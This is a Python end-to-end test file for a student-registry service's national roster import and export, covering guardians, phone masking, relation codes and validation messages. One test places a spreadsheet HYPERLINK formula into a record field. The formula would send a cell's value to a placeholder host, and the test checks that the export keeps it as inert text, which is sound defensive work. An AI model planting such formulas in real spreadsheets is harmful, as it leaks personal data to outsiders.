"""The family members of a national record after the guardians change, and the cases
clerks meet with real rosters: Excel's numbers, younger siblings, documents that do not
go with a G number, reasons that name the form's field."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import Workbook

from tests.e2e.conftest import Headers
from tests.national_files import HEADERS, read_cells, student, write_national
from tests.registry_world import HAIKOU
from xueji.registry.national.fields import MEMBER_FIELDS, NATIONAL_COLUMNS

IMPORTS = f"/api/v1/schools/{HAIKOU}/imports"
EXPORT = f"/api/v1/schools/{HAIKOU}/export.xlsx?format=national"


def upload(client: TestClient, admin: dict[str, str], path: Path) -> dict[str, object]:
    answer = client.post(IMPORTS, files={"file": (path.name, path.read_bytes())}, headers=admin)
    assert answer.status_code == 200, answer.text
    body: dict[str, object] = answer.json()
    return body


def exported(client: TestClient, admin: dict[str, str]) -> dict[str, dict[str, object]]:
    """The export's rows by 姓名, header → cell."""
    answer = client.get(EXPORT, headers=admin)
    assert answer.status_code == 200
    rows = read_cells(answer.content)[1:]
    return {str(row[1]): dict(zip(HEADERS, row, strict=True)) for row in rows}


def members_of(body: dict[str, object]) -> list[dict[str, str]]:
    members = body["members"]
    assert isinstance(members, list)
    return [{shown["column"][3:]: shown["text"] for shown in member} for member in members]


def test_members_follow_the_guardians_each_with_their_own_details(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    """成员1 陈大明 (father, guardian) and 成员2 林秀英 (mother, not one) imported; then the
    registry's guardians become the mother and a grandmother added by hand."""
    admin = as_user("haikou-admin")
    values = student(21)
    upload(client, admin, write_national(tmp_path / "one.xlsx", [values]))
    number = values["registry_no"]
    guardians = [
        {"name": "林秀英", "relation": "母亲", "phone": "13900139002"},
        {"name": "王桂兰", "relation": "祖母", "phone": "13900139003"},
    ]
    changed = client.patch(
        f"/api/v1/students/{number}",
        json={"guardians": guardians, "reason": "父亲不再担任监护人"},
        headers=admin,
    )
    assert changed.status_code == 200, changed.text
    row = exported(client, admin)[values["name"]]
    father = ("陈大明", "51", "0", "13800138001", values["m1_document_no"], "佛山市某公司")
    assert (
        row["成员1姓名"],
        row["成员1关系"],
        row["成员1是否监护人"],
        row["成员1联系电话"],
        row["成员1身份证件号"],
        row["成员1工作单位"],
    ) == father
    mother = ("林秀英", "52", "1", "13900139002", "在外地工作")
    assert (
        row["成员2姓名"],
        row["成员2关系"],
        row["成员2是否监护人"],
        row["成员2联系电话"],
        row["成员2关系说明"],
    ) == mother
    grandmother = ("王桂兰", "62", "1", "13900139003", None)
    assert (
        row["成员3姓名"],
        row["成员3关系"],
        row["成员3是否监护人"],
        row["成员3联系电话"],
        row["成员3身份证件号"],
    ) == grandmother
    # the page and the API say the same, phones masked for everyone but an audited
    # reveal by the school's own administrator
    url = f"/api/v1/students/{number}/record"
    shown = members_of(client.get(url, headers=admin).json())
    assert [(m["name"], m["guardian"], m["phone"]) for m in shown] == [
        ("陈大明", "否", "138****8001"),
        ("林秀英", "是", "139****9002"),
        ("王桂兰", "是", "139****9003"),
    ]
    for viewer in ("haikou-teacher", "foshan"):
        seen = client.get(url, headers=as_user(viewer)).json()
        assert "13900139002" not in str(seen) and "13800138001" not in str(seen), viewer
    teacher = client.get(f"{url}?reveal=true", headers=as_user("haikou-teacher")).json()
    assert "13900139002" not in str(teacher)
    revealed = members_of(client.get(f"{url}?reveal=true", headers=admin).json())
    assert revealed[1]["phone"] == "13900139002"
    # exported and imported again: the same guardians, nothing changed (the school's
    # student registered by hand has no national record to report yet)
    cells = read_cells(client.get(EXPORT, headers=admin).content)
    again = write_rows(tmp_path / "again.xlsx", cells)
    back = client.post(
        IMPORTS + "?dry_run=true", files={"file": (again.name, again.read_bytes())}, headers=admin
    ).json()
    assert (back["new"], back["differs"], back["unchanged"]) == (0, 0, 1), back["changes"]
    assert [e["code"] for e in back["errors"]] == ["BIRTHPLACE_REQUIRED"]
    assert cells[back["errors"][0]["row"] - 1][1] == "陈小明"


def write_rows(path: Path, cells: list[list[object]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in cells:
        sheet.append(row)
    workbook.save(path)
    return path


def test_guardians_are_corrected_in_maintenance_not_in_the_record(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    admin = as_user("haikou-admin")
    values = student(22)
    upload(client, admin, write_national(tmp_path / "one.xlsx", [values]))
    url = f"/api/v1/students/{values['registry_no']}/record"
    for change in (
        {"m1_guardian": "0"},
        dict.fromkeys((f"m1_{field.key}" for field in MEMBER_FIELDS), ""),
        {"m1_phone": "13700137000"},
        {"m2_guardian": "1"},
    ):
        refused = client.patch(url, json={"values": change, "reason": "x"}, headers=admin)
        assert refused.status_code == 422, change
        assert refused.json()["code"] == "MEMBER_GUARDIAN_IN_MAINTENANCE"
        assert "学生信息维护" in refused.json()["message"]
    done = client.patch(
        url,
        json={
            "values": {"m1_workplace": "佛山市另一公司", "m2_phone": "13700137000"},
            "reason": "x",
        },
        headers=admin,
    )
    assert done.json() == {"changed": ["m1_workplace", "m2_phone"]}


def test_younger_siblings_are_family_members_but_not_guardians(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    admin = as_user("haikou-admin")
    rows = [
        student(23, m2_relation="弟"),
        student(24, m2_relation="77"),
        student(25, m1_relation="妹妹"),
    ]
    done = upload(client, admin, write_national(tmp_path / "siblings.xlsx", rows))
    assert (done["new"], done["rejected"]) == (2, 1)
    errors = done["errors"]
    assert isinstance(errors, list)
    assert errors[0]["code"] == "MEMBER1_GUARDIAN_RELATION_INVALID"
    assert "成员1" in errors[0]["message"]
    found = exported(client, admin)
    assert found[rows[0]["name"]]["成员2关系"] == "73"
    assert found[rows[1]["name"]]["成员2关系"] == "77"


def test_cells_excel_keeps_as_numbers_and_dates(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    """民族 01 typed into a number cell is 1, 邮政编码 050000 is 50000, 入学年月 2023-09
    is the date 2023-09-01: each is read as the clerk meant it."""
    admin = as_user("haikou-admin")
    values = student(26)
    by_header = {header: column for column, header in NATIONAL_COLUMNS.items()}
    cells: list[object] = [values.get(by_header[header], "") or None for header in HEADERS]
    cells[HEADERS.index("民族")] = 1
    cells[HEADERS.index("政治面貌")] = 14
    cells[HEADERS.index("邮政编码")] = 50000
    cells[HEADERS.index("入学年月")] = dt.datetime(2023, 9, 1)
    path = write_rows(tmp_path / "numbers.xlsx", [HEADERS, cells])
    done = upload(client, admin, path)
    assert (done["new"], done["rejected"]) == (1, 0), done
    row = exported(client, admin)[values["name"]]
    assert (row["民族"], row["政治面貌"], row["邮政编码"], row["入学年月"]) == (
        "01",
        "14",
        "050000",
        "202309",
    )


def test_reasons_name_the_form_field(client: TestClient, as_user: Headers, tmp_path: Path) -> None:
    admin = as_user("haikou-admin")
    rows = [
        # a G number goes with a resident ID only
        student(27, document_type="6", document_no="H12345678"),
        # no 全国学籍号 and no document type: the type is what is missing
        student(28, registry_no="", document_type=""),
        student(29, registry_no="", document_type="回乡证"),
        # a guardian member with a landline, and a guardian who is the third member
        student(30, m1_phone="0757-83000000"),
        student(
            31,
            m1_guardian="0",
            m3_name="王桂兰",
            m3_relation="62",
            m3_guardian="1",
            m3_phone="83000000",
        ),
    ]
    done = upload(client, admin, write_national(tmp_path / "reasons.xlsx", rows))
    errors = done["errors"]
    assert isinstance(errors, list)
    codes = [error["code"] for error in errors]
    assert codes == [
        "DOCUMENT_TYPE_MISMATCH",
        "DOCUMENT_TYPE_REQUIRED",
        "DOCUMENT_TYPE_INVALID",
        "MEMBER1_GUARDIAN_PHONE_INVALID",
        "MEMBER3_GUARDIAN_PHONE_INVALID",
    ]
    messages = [error["message"] for error in errors]
    assert "身份证件类型" in messages[0] and "身份证件类型" in messages[1]
    assert "成员3" in messages[4] and "第二监护人" not in messages[4]
    # the error report keeps the national layout, every cell as in the file
    report = read_cells(client.get(str(done["report_url"]), headers=admin).content)
    assert report[0] == [*HEADERS, "错误原因", "行号"]
    assert [row[HEADERS.index("身份证件类型")] for row in report[1:]] == [
        "6",
        None,
        "回乡证",
        "1",
        "1",
    ]
    assert report[4][HEADERS.index("成员1联系电话")] == "0757-83000000"


def test_a_student_numbered_before_is_found_by_their_document(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    """Imported with a space in the name (the import warns), corrected as advised, and
    the same roster imported again: the same student, no second J number."""
    admin = as_user("haikou-admin")
    values = student(32, registry_no="", name="马 沐阳", document_type="6", document_no="H12345678")
    path = write_national(tmp_path / "hk.xlsx", [values])
    assert upload(client, admin, path)["new"] == 1
    (number,) = [
        str(row[0])
        for row in read_cells(client.get(EXPORT, headers=admin).content)[1:]
        if row[1] == "马 沐阳"
    ]
    assert number.startswith("J")
    corrected = client.patch(
        f"/api/v1/students/{number}",
        json={"name": "马沐阳", "reason": "按通行证更正"},
        headers=admin,
    )
    assert corrected.status_code == 200
    again = upload(client, admin, path)
    assert (again["new"], again["rejected"]) == (0, 0), again
    numbers = [row[0] for row in read_cells(client.get(EXPORT, headers=admin).content)[1:]]
    assert numbers.count(number) == 1 and not [
        n for n in numbers if n != number and str(n).startswith("J")
    ]


def test_the_export_holds_text_never_a_formula(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    admin = as_user("haikou-admin")
    formula = '=HYPERLINK("http://example.invalid/?x="&A2,"点此")'
    values = student(34)
    assert upload(client, admin, write_national(tmp_path / "f.xlsx", [values]))["new"] == 1
    typed = client.patch(
        f"/api/v1/students/{values['registry_no']}/record",
        json={"values": {"talent": formula}, "reason": "x"},
        headers=admin,
    )
    assert typed.status_code == 200
    sheet = load_workbook(BytesIO(client.get(EXPORT, headers=admin).content)).active
    assert sheet is not None
    column = HEADERS.index("特长") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    (cell,) = [cell for cell in cells if cell.value == formula]
    assert cell.data_type == "s"


def test_the_import_page_names_the_national_template_and_the_code(
    client: TestClient, as_user: Headers, tmp_path: Path
) -> None:
    from tests.e2e.test_registry_pages import page_login

    as_user("haikou-admin")
    token = page_login(client, "haikou-admin")
    headers = [header for header in HEADERS if header != "民族"]
    path = write_national(tmp_path / "no-ethnicity.xlsx", [student(35)], headers=headers)
    page = client.post(
        "/imports",
        files={"file": (path.name, path.read_bytes())},
        data={"csrf_token": token},
    )
    assert page.status_code == 422
    assert "民族" in page.text and "全国学籍模板" in page.text
    assert "IMPORT_HEADER_MISSING" in page.text
